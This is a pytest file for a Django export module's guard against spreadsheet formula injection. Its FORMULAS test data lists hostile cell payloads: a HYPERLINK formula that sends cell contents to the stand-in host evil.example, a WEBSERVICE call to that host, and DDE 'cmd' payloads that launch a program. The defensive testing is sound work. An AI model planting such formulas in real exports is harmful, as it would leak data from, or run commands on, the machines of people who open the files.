"""A cell that a spreadsheet would run is guarded, in a way that can be undone."""

from __future__ import annotations

import pytest
from django.db import connection
from hypothesis import given
from hypothesis import strategies as st

from annotations.exports.guard import guard, guarded, unguard

SIGNS = "=+-@＝＋－＠"
BLANKS = (
    " ",
    "\t",
    "\n",
    "\r",
    "\r\n",
    "\u00a0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\u202e",
    "  \u2009",
)
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"more")',
    '=WEBSERVICE("https://evil.example/")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tplain",
    "\rplain",
    "\nplain",
    *(blank + sign + "1" for blank in ("", *BLANKS) for sign in SIGNS),
]
PLAIN = ["", "Tea", "1", "1e5", "001", "1/2", "5 - 3", "a=b", "[1, 2]", "“=1”", "🌉 = 1", " Tea"]
HOSTILE = st.text(
    st.sampled_from("=+-@＝＋－＠'\" \t\r\n\u00a0\u3000\u200b\ufeffa1;,🌉") | st.characters(
        exclude_characters="\0", exclude_categories=["Cs"]
    ),
    max_size=12,
)  # fmt: skip


@pytest.mark.parametrize("cell", FORMULAS)
def test_formulas_become_text(cell: str) -> None:
    assert guard(cell) == "'" + cell


@pytest.mark.parametrize("cell", PLAIN)
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert guard(cell) == cell


def test_an_apostrophe_of_its_own_is_not_lost() -> None:
    assert guard("'Tea Road'") == "''Tea Road'"
    assert unguard(guard("'=1")) == "'=1"


@given(HOSTILE)
def test_the_guard_can_be_undone(cell: str) -> None:
    assert unguard(guard(cell)) == cell


def test_a_rule_that_spares_apostrophes_cannot_be_undone() -> None:
    def sparing(cell: str) -> str:
        return cell if cell.startswith("'") else guard(cell)

    assert unguard(sparing("'=1")) != "'=1"


@given(HOSTILE)
def test_no_guarded_cell_starts_like_a_formula(cell: str) -> None:
    assert guard(cell).lstrip("".join(BLANKS))[:1] not in tuple(SIGNS)


def in_sql(cells: list[str]) -> list[str]:
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT {guarded('cell')} FROM unnest(%s::text[]) WITH ORDINALITY AS c (cell, n)"
            " ORDER BY n",
            [cells],
        )
        return [row[0] for row in cursor.fetchall()]


@pytest.mark.django_db
@given(cells=st.lists(HOSTILE, max_size=40))
def test_postgresql_guards_like_python(cells: list[str]) -> None:
    assert in_sql(cells) == [guard(cell) for cell in cells]


@pytest.mark.django_db
def test_postgresql_guards_every_single_character_like_python() -> None:
    """Each code point that could matter, alone and before a sign."""
    points = [*range(1, 0xD800), *range(0xE000, 0x10000), 0x1F309]
    cells = [chr(point) for point in points] + [chr(point) + "=1" for point in points]
    assert in_sql(cells) == [guard(cell) for cell in cells]


@pytest.mark.django_db
def test_the_comparison_finds_a_difference() -> None:
    assert in_sql(["\u00a0=1"]) != ["\u00a0=1"]
